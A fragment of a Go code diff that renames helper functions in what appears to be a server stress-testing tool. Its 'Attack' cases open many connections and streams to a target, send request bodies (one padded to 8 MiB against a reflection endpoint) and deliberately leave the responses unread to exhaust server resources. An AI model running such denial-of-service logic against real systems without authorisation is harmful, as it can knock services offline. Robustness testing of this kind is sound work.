@@ -22,7 +22,7 @@ var unreadAnswers = Attack{
 		if err != nil {
 			return err
 		}
-		return t.unread(ctx, evaluatePath, wire.Envelope(message, false, len(message)), 22, 1, true)
+		return t.leaveUnread(ctx, evaluatePath, wire.Envelope(message, false, len(message)), 22, 1, true)
 	},
 }
 
@@ -33,21 +33,21 @@ var unreadReflection = Attack{
 	Run: func(ctx context.Context, t *Target) error {
 		listServices := []byte{7<<3 | 2, 0}
 		body := append(wire.Envelope(listServices, false, len(listServices)), make([]byte, 8<<20)...)
-		return t.unread(ctx, reflectionPath, body, 40, 2, false)
+		return t.leaveUnread(ctx, reflectionPath, body, 40, 2, false)
 	},
 }
 
-// unread sends body to path on so many connections with so many streams, whose answers it
+// leaveUnread sends body to path on so many connections with so many streams, whose answers it
 // does not read.
-func (t *Target) unread(ctx context.Context, path string, body []byte, connections, streams int, end bool) error {
-	ctx, cancel := context.WithTimeout(ctx, choose(t, short, long))
+func (t *Target) leaveUnread(ctx context.Context, path string, body []byte, connections, streams int, end bool) error {
+	ctx, cancel := context.WithTimeout(ctx, chooseByTime(t, short, long))
 	defer cancel()
-	return all(connections, func(int) error {
+	return runAll(connections, func(int) error {
 		conn, err := wire.Open(ctx, t.Address, 0)
 		if err != nil {
 			return err
 		}
-		_ = all(streams, func(int) error {
+		_ = runAll(streams, func(int) error {
 			id, err := conn.Request(path)
 			if err != nil {
 				return err
